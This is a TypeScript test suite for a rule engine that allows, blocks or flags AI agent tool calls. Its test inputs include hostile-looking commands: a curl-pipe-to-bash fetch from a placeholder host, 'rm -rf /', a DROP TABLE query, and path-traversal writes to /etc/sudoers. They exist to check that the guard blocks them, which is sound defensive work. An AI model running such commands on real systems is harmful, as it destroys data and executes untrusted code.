import { readFileSync } from "node:fs"
import { describe, expect, it } from "vitest"
import { genericCapability } from "../../../src/adapters/Generic.js"
import { compileRuleSet, containsWord, evaluationOrder, interpolate, targetApplies, atomFacts } from "../../../src/domain/rules/Evaluate.js"
import { parseRulesFile } from "../../../src/domain/rules/Parser.js"
import type { Rule } from "../../../src/domain/rules/Rule.js"
import type { ToolCall } from "../../../src/domain/ToolCall.js"
import { corpusFiles, corpusPresent } from "../../support/corpus.js"

const rules = (text: string): ReadonlyArray<Rule> => {
  const file = parseRulesFile(text, "t.rules")
  expect(file.diagnostics).toEqual([])
  return file.rules
}

const rule = (id: string, decision: string, condition: string, priority = 50, extra = ""): string =>
  `rule ${id} {\n  priority ${priority}\n  ${decision}\n  ${condition}\n  MESSAGE "${id} says no"\n${extra}}\n`

const bash = (command: string): ToolCall => ({ tool: "Bash", input: { command } })
const write = (file_path: string, content: string): ToolCall => ({ tool: "Write", input: { file_path, content } })

const decide = (text: string, call: ToolCall) => {
  const set = compileRuleSet(rules(text))
  const r = set.evaluate(call, genericCapability(call.tool))
  return { decision: r.decision, rule: r.decisive?.rule.id ?? null, also: r.alsoMatched.map((m) => m.rule.id) }
}

describe("evaluation order", () => {
  it("higher priority decides first", () => {
    const text = rule("low", "DENY any", `IF command CONTAINS "git"`, 10) + rule("high", "ALLOW any", `IF command CONTAINS "git"`, 90)
    expect(decide(text, bash("git push"))).toEqual({ decision: "allow", rule: "high", also: [] })
  })
  it("at equal priority DENY beats ASK beats FORCE beats ALLOW, whatever the load order", () => {
    const allow = rule("a", "ALLOW any", `IF command CONTAINS "x"`)
    const force = rule("f", "FORCE any", `IF command CONTAINS "x"`, 50, `  SUBSTITUTE "do y"\n`)
    const ask = rule("k", "ASK any", `IF command CONTAINS "x"`, 50, `  PROMPT "ok?"\n`)
    const deny = rule("d", "DENY any", `IF command CONTAINS "x"`)
    expect(decide(allow + force + ask + deny, bash("x")).rule).toBe("d")
    expect(decide(allow + force + ask, bash("x")).rule).toBe("k")
    expect(decide(allow + force, bash("x")).rule).toBe("f")
  })
  it("equal priority and decision keep load order", () => {
    const text = rule("first", "DENY any", `IF command CONTAINS "x"`) + rule("second", "DENY any", `IF command CONTAINS "x"`)
    expect(evaluationOrder(rules(text)).map((r) => r.id)).toEqual(["first", "second"])
    expect(decide(text, bash("x")).rule).toBe("first")
  })
  it("disabled rules are skipped", () => {
    const text = rule("off", "DENY any", `IF command CONTAINS "x"`, 90, "  enabled false\n") + rule("on", "ASK any", `IF command CONTAINS "x"`, 10, `  PROMPT "p"\n`)
    expect(decide(text, bash("x")).rule).toBe("on")
  })
  it("no match allows with no rule", () => {
    expect(decide(rule("r", "DENY any", `IF command CONTAINS "zzz"`), bash("ls"))).toEqual({ decision: "allow", rule: null, also: [] })
  })
})

describe("non-terminal decisions", () => {
  const log = rule("log-git", "LOG any", `IF command CONTAINS "git"`, 95)
  const shadow = rule("shadow-push", "SHADOW any", `IF command CONTAINS "push"`, 90)
  const deny = rule("deny-force", "DENY any", `IF command CONTAINS "--force"`, 80)
  it("LOG and SHADOW are reported and evaluation goes on to the terminal match", () => {
    expect(decide(log + shadow + deny, bash("git push --force"))).toEqual({
      decision: "block",
      rule: "deny-force",
      also: ["log-git", "shadow-push"]
    })
  })
  it("when only non-terminal rules match, LOG wins over SHADOW and the call proceeds", () => {
    expect(decide(log + shadow + deny, bash("git push"))).toEqual({ decision: "log", rule: "log-git", also: ["log-git", "shadow-push"] })
    expect(decide(shadow + deny, bash("git push"))).toEqual({ decision: "shadow", rule: "shadow-push", also: ["shadow-push"] })
  })
  it("lower-priority LOG rules after the terminal match are not evaluated", () => {
    const late = rule("late-log", "LOG any", `IF command CONTAINS "git"`, 10)
    expect(decide(deny + late, bash("git push --force")).also).toEqual([])
  })
})

describe("targets and capabilities", () => {
  it("maps the generic adapter's tool names", () => {
    expect(["Bash", "Read", "Write", "Edit", "MultiEdit", "Glob", "Grep", "WebFetch", "WebSearch", "Agent", "Task", "mcp__x__y"].map(genericCapability)).toEqual([
      "execute", "read", "write", "write", "write", "search", "search", "network", "network", "agent", "agent", "unknown"
    ])
  })
  it("execution applies to execute only, any to all", () => {
    expect(targetApplies("execution", "execute")).toBe(true)
    expect(targetApplies("execution", "write")).toBe(false)
    expect(targetApplies("any", "unknown")).toBe(true)
    expect(targetApplies("network", "unknown")).toBe(false)
  })
  it("a write rule does not fire on a shell command with the same text", () => {
    const text = rule("w", "DENY write", `IF content CONTAINS "secret"`)
    expect(decide(text, { tool: "Bash", input: { command: "echo", content: "secret" } }).decision).toBe("allow")
    expect(decide(text, write("/a/b.txt", "a secret")).decision).toBe("block")
  })
})

describe("operators", () => {
  const match = (condition: string, call: ToolCall): boolean => decide(rule("r", "DENY any", condition), call).decision === "block"
  it("CONTAINS / STARTS_WITH / ENDS_WITH / EQUALS are exact and case-sensitive", () => {
    expect(match(`IF command CONTAINS "rm -r"`, bash("sudo rm -rf x"))).toBe(true)
    expect(match(`IF command CONTAINS "RM"`, bash("rm"))).toBe(false)
    expect(match(`IF command STARTS_WITH "git "`, bash("git status"))).toBe(true)
    expect(match(`IF command STARTS_WITH "git "`, bash(" git status"))).toBe(false)
    expect(match(`IF path ENDS_WITH ".env"`, write("/p/.env", ""))).toBe(true)
    expect(match(`IF tool EQUALS "Bash"`, bash("x"))).toBe(true)
    expect(match(`IF tool EQUALS "bash"`, bash("x"))).toBe(false)
  })
  it("EQUALS \"\" matches a missing field", () => {
    expect(match(`IF input.decision EQUALS ""`, bash("x"))).toBe(true)
    expect(match(`IF input.decision EQUALS ""`, { tool: "T", input: { decision: "y" } })).toBe(false)
  })
  it("WORD matches whole words only", () => {
    expect(containsWord("git push origin", "push")).toBe(true)
    expect(containsWord("git pushed", "push")).toBe(false)
    expect(containsWord("a_push", "push")).toBe(false)
    expect(containsWord("x--force y", "--force")).toBe(true)
    expect(match(`IF command WORD "sudo"`, bash("pseudo ls"))).toBe(false)
    expect(match(`IF command WORD "sudo"`, bash("echo hi; sudo ls"))).toBe(true)
  })
  it("REGEX and MATCHES run on RE2, with inline flags", () => {
    expect(match(`IF command REGEX "curl[^|]+\\\\|\\\\s*(sh|bash)"`, bash("curl -s https://x.sh | bash"))).toBe(true)
    expect(match(`IF command MATCHES "(?i)drop\\\\s+table"`, bash("psql -c 'DROP TABLE users'"))).toBe(true)
    expect(match(`IF command REGEX "rm\\s+-rf"`, bash("rm  -rf /"))).toBe(true)
  })
  it("a regex RE2 rejects makes its condition match, negated or not (fail-secure)", () => {
    expect(match(`IF command REGEX "a(?!b)"`, bash("zzz"))).toBe(true)
    expect(match(`IF command NOT REGEX "a(?!b)"`, bash("zzz"))).toBe(true)
  })
  it("LINE_REGEX anchors per line; LINE_CONTAINS skips comment lines of the file's language", () => {
    expect(match(`IF content LINE_REGEX "^ADD\\\\s+http"`, write("/p/Dockerfile", "FROM x\nADD http://a b\n"))).toBe(true)
    expect(match(`IF content REGEX "^ADD\\\\s+http"`, write("/p/Dockerfile", "FROM x\nADD http://a b\n"))).toBe(false)
    expect(match(`IF content LINE_CONTAINS "eval("`, write("/p/a.js", "// eval(x)\nok()\n"))).toBe(false)
    expect(match(`IF content LINE_CONTAINS "eval("`, write("/p/a.js", "// c\neval(x)\n"))).toBe(true)
    expect(match(`IF content LINE_CONTAINS "eval("`, write("/p/a.md", "// eval(x)\n"))).toBe(true)
  })
  it("GLOB matches the absolute paths agents send", () => {
    expect(match(`IF path GLOB "**/*.ts"`, write("/home/u/p/src/a.ts", ""))).toBe(true)
    expect(match(`IF path GLOB "**/*.ts"`, write("/home/u/p/src/a.tsx", ""))).toBe(false)
    expect(match(`IF path GLOB ".github/workflows/*.yml"`, write("/home/u/p/.github/workflows/ci.yml", ""))).toBe(true)
    expect(match(`IF path GLOB "*.log"`, write("/var/tmp/x/debug.log", ""))).toBe(true)
    expect(match(`IF path GLOB "/etc/hosts"`, write("/etc/hosts", ""))).toBe(true)
    expect(match(`IF path GLOB "/etc/hosts"`, write("/x/etc/hosts", ""))).toBe(false)
  })
  it("fields resolve as documented", () => {
    expect(match(`IF content CONTAINS "new"`, { tool: "Edit", input: { file_path: "/a", old_string: "old", new_string: "new" } })).toBe(true)
    expect(match(`IF path ENDS_WITH "/a"`, { tool: "Read", input: { path: "/x/a" } })).toBe(true)
    expect(match(`IF input.limit EQUALS "5"`, { tool: "Read", input: { limit: 5 } })).toBe(true)
    expect(match(`IF command CONTAINS "rm -rf /"`, { tool: "shell", input: { command: ["bash", "-lc", "rm -rf /"] } })).toBe(true)
    expect(match(`IF content CONTAINS "b2"`, { tool: "MultiEdit", input: { file_path: "/a", edits: [{ new_string: "a1" }, { new_string: "b2" }] } })).toBe(true)
  })
})

const blocks = (condition: string, call: ToolCall): boolean =>
  decide(rule("r", "DENY any", condition), call).decision === "block"

describe("path normalisation", () => {
  it("collapses .., . and // before every path operator, so they cannot escape a rule", () => {
    const paths = ["/tmp/../etc/sudoers", "//etc/sudoers", "/etc/./sudoers", "/etc//sudoers", "\\etc\\x\\..\\sudoers"]
    for (const p of paths) {
      expect(blocks(`IF path GLOB "/etc/sudoers"`, write(p, "x")), p).toBe(true)
      expect(blocks(`IF path GLOB "/etc/**"`, write(p, "x")), p).toBe(true)
      expect(blocks(`IF path EQUALS "/etc/sudoers"`, write(p, "x")), p).toBe(true)
      expect(blocks(`IF path STARTS_WITH "/etc/"`, write(p, "x")), p).toBe(true)
      expect(blocks(`IF path ENDS_WITH "/etc/sudoers"`, write(p, "x")), p).toBe(true)
    }
    const read: ToolCall = { tool: "Read", input: { path: "/var/../../etc/sudoers" } }
    expect(blocks(`IF path EQUALS "/etc/sudoers"`, read)).toBe(true)
  })
  it("keeps a relative path relative, a trailing slash, and a missing path empty", () => {
    expect(blocks(`IF path EQUALS "../etc/passwd"`, write("a/../../etc/passwd", ""))).toBe(true)
    expect(blocks(`IF path GLOB "/etc/**"`, write("a/../../etc/passwd", ""))).toBe(false)
    expect(blocks(`IF path EQUALS "/etc/"`, write("/etc/./", ""))).toBe(true)
    expect(blocks(`IF path EQUALS ""`, bash("ls"))).toBe(true)
  })
  it("explain shows the normalised path; input.file_path stays raw", () => {
    const set = compileRuleSet(rules(rule("r", "DENY any", `IF path GLOB "/etc/**" AND input.file_path CONTAINS ".."`)))
    const call = write("/tmp/../etc/sudoers", "x")
    const r = set.evaluate(call, "write")
    expect(r.decisive?.rule.id).toBe("r")
    expect(set.explain(r.decisive!, call).map((t) => [t.field, t.actual])).toEqual([
      ["input.file_path", "/tmp/../etc/sudoers"],
      ["path", "/etc/sudoers"]
    ])
  })
})

describe("LINE_* conditions", () => {
  it("split each field's own lines, even when another field was split first", () => {
    const first = rule("first", "DENY any", `IF content LINE_CONTAINS "zzz"`, 90)
    const text = first + rule("second", "DENY any", `IF command LINE_REGEX "^rm -rf"`)
    const call: ToolCall = { tool: "Bash", input: { command: "rm -rf /", content: "# zzz", file_path: "/a.py" } }
    expect(decide(text, call)).toEqual({ decision: "block", rule: "second", also: [] })
    const set = compileRuleSet(rules(text))
    expect(set.matchAll(call, "execute").map((m) => m.rule.id)).toEqual(["second"])
    expect(set.explain({ rule: set.rules[1]!, group: 0 }, call).map((t) => t.matched)).toEqual([true])
  })
  it("see code written after a block comment on the same line", () => {
    const text = rule("r", "DENY any", `IF content LINE_REGEX "^\\s*eval\\(" OR content LINE_CONTAINS "exec("`)
    expect(decide(text, write("/p/a.js", "/* x */ eval(y)")).decision).toBe("block")
    expect(decide(text, write("/p/a.js", "/* x\n*/ exec(y)")).decision).toBe("block")
    expect(decide(text, write("/p/a.js", "/* eval(y)\nexec(y) */")).decision).toBe("allow")
  })
  it("LINE_REGEX with a flag group that clears m still anchors ^ at each line", () => {
    for (const pattern of ["(?-m)^foo", "(?s-m:^)foo", "(?i-m)^FOO$", "(?-sm)^foo$"]) {
      const condition = `IF content LINE_REGEX "${pattern}"`
      expect(decide(rule("r", "DENY any", condition), write("/p/a.txt", "x\nfoo")).decision, pattern).toBe("block")
      expect(decide(rule("r", "DENY any", condition), write("/p/a.txt", "x\nbar")).decision, pattern).toBe("allow")
    }
  })
})

describe("matchRule and explain", () => {
  it("test one rule of a set, even a disabled one", () => {
    const condition = `IF command CONTAINS "x" OR command CONTAINS "y"`
    const [off] = rules(rule("off", "DENY execution", condition, 50, "  enabled false\n"))
    const set = compileRuleSet([off!])
    expect(set.matchRule(off!, bash("y"), "execute")).toBe(1)
    expect(set.matchRule(off!, bash("y"), "read")).toBe(-1)
    expect(set.matchRule(off!, bash("z"), "execute")).toBe(-1)
    expect(set.explain({ rule: off!, group: 1 }, bash("y"))).toEqual([
      {
        field: "command",
        operator: "CONTAINS",
        negated: false,
        value: "y",
        actual: "y",
        matched: true,
        failSecure: false
      }
    ])
  })
  it("refuse a rule that is not in the set", () => {
    const [a, b] = rules(rule("a", "DENY any", `IF command CONTAINS "x"`) + rule("b", "DENY any", `IF command CONTAINS "x"`))
    const set = compileRuleSet([a!])
    expect(() => set.matchRule(b!, bash("x"), "execute")).toThrow("rule b is not in this compiled rule set")
  })
})

describe("messages", () => {
  it("interpolates only ${input.<key>}", () => {
    expect(interpolate("Run ${input.command}? (${NPM_TOKEN} ${{ secrets.X }})", bash("ls"))).toBe("Run ls? (${NPM_TOKEN} ${{ secrets.X }})")
  })
})

describe.skipIf(!corpusPresent)("prefilter soundness over the corpus (skipped when ../shared/rules-corpus is absent)", () => {
  it("the automaton-indexed and the cached-facts (substring-scanned, lazily compiled) evaluations equal a plain scan of every rule", () => {
    const all = corpusFiles().flatMap((f) => parseRulesFile(readFileSync(f, "utf8"), f).rules)
    const set = compileRuleSet(all)
    const samples: Array<ToolCall> = []
    for (const r of all.filter((_, i) => i % 6 === 0)) {
      for (const g of r.groups) {
        const input: Record<string, unknown> = {}
        for (const a of g) {
          const v = a.operator === "GLOB" ? `/home/u/p/src/x${a.value.replace(/\*\*\/|\*|\{.*\}|\(.*\)/g, "")}` : a.value
          if (a.field === "command") input["command"] = `${(input["command"] as string) ?? ""} ${v}`
          else if (a.field === "path") input["file_path"] = v
          else if (a.field === "content") input["content"] = `${(input["content"] as string) ?? ""}\n${v}`
          else if (a.field.startsWith("input.")) input[a.field.slice(6)] = v
        }
        samples.push({ tool: r.target === "execution" ? "Bash" : r.target === "read" ? "Read" : "Write", input })
      }
    }
    const lazy = compileRuleSet(all, { facts: JSON.parse(JSON.stringify(atomFacts(all))) })
    let decided = 0
    for (const call of samples) {
      const cap = genericCapability(call.tool)
      const expected = set.rules.filter((r) => r.enabled && set.matchRule(r, call, cap) >= 0)
      expect(set.matchAll(call, cap).map((m) => m.rule.id)).toEqual(expected.map((r) => r.id))
      expect(lazy.matchAll(call, cap).map((m) => m.rule.id)).toEqual(expected.map((r) => r.id))
      const decision = set.evaluate(call, cap)
      const lazyDecision = lazy.evaluate(call, cap)
      expect([lazyDecision.decision, lazyDecision.decisive?.rule.id]).toEqual([decision.decision, decision.decisive?.rule.id])
      if (expected.length > 0) decided++
    }
    expect(samples.length).toBeGreaterThan(350)
    expect(decided).toBeGreaterThan(samples.length / 2)
  })
})
